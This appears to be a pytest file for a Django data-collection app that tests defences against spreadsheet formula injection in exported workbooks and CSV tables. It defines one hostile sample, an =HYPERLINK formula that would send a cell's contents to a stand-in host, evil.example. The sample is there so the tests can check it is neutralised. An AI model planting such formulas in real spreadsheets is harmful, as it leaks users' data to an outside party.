"""An official's comment like =HYPERLINK(...) comes out of every workbook and table as text,
never as a live formula; it comes back from the template unchanged."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from hromada.collection.entry_actions import Answer, save_answer
from hromada.collection.models import ValueNote
from hromada.indicators.models import Indicator
from tests.collection.factories import GRADE1, PUPILS, make_campaign, submission
from tests.collection.test_excel import filled, upload
from tests.conftest import Personas

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://evil.example/?d="&H2,"Докладніше")'


def commented(personas: Personas) -> int:
    campaign = make_campaign([personas.hromada])
    answer = Answer(Indicator.objects.get(code=PUPILS), 500.0, "", HOSTILE)
    save_answer(submission(campaign, personas.hromada), answer, by=personas.official)
    return campaign.pk


def comment_cells(content: bytes) -> list[object]:
    sheet = load_workbook(io.BytesIO(content))["Data"]
    return [row[9].value for row in sheet.iter_rows(min_row=2) if row[2].value == PUPILS]


@pytest.mark.parametrize(("who", "name", "scope"), [
    ("official", "workbook", "hromada"), ("coordinator", "oblast_workbook", "oblast"),
])  # fmt: skip
def test_a_hostile_comment_is_text_in_the_templates(
    personas: Personas, who: str, name: str, scope: str
) -> None:
    pk = commented(personas)
    client = Client()
    client.force_login(getattr(personas, who))
    code = getattr(personas, scope).code
    content = client.get(reverse(f"collection:{name}", args=[pk, code])).content
    assert comment_cells(content) == ["'" + HOSTILE]
    sheet = load_workbook(io.BytesIO(content))["Data"]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_the_comment_comes_back_from_the_template_unchanged(personas: Personas) -> None:
    pk = commented(personas)
    client = Client()
    client.force_login(personas.official)
    content = client.get(reverse("collection:workbook", args=[pk, personas.hromada.code])).content
    page = upload(client, pk, personas.hromada.code, filled(content, {PUPILS: 510, GRADE1: 61}))
    assert not page.startswith("REFUSED")
    assert ValueNote.objects.get().comment == HOSTILE


def test_the_progress_table_neutralises_names(personas: Personas) -> None:
    personas.hromada.name_uk = "=1+2"
    personas.hromada.save()
    pk = make_campaign([personas.hromada]).pk
    client = Client()
    client.force_login(personas.analyst)
    listing = client.get(reverse("collection:progress_export", args=[pk, "csv"])).content.decode()
    assert "'=1+2" in [cell for row in csv.reader(io.StringIO(listing)) for cell in row]
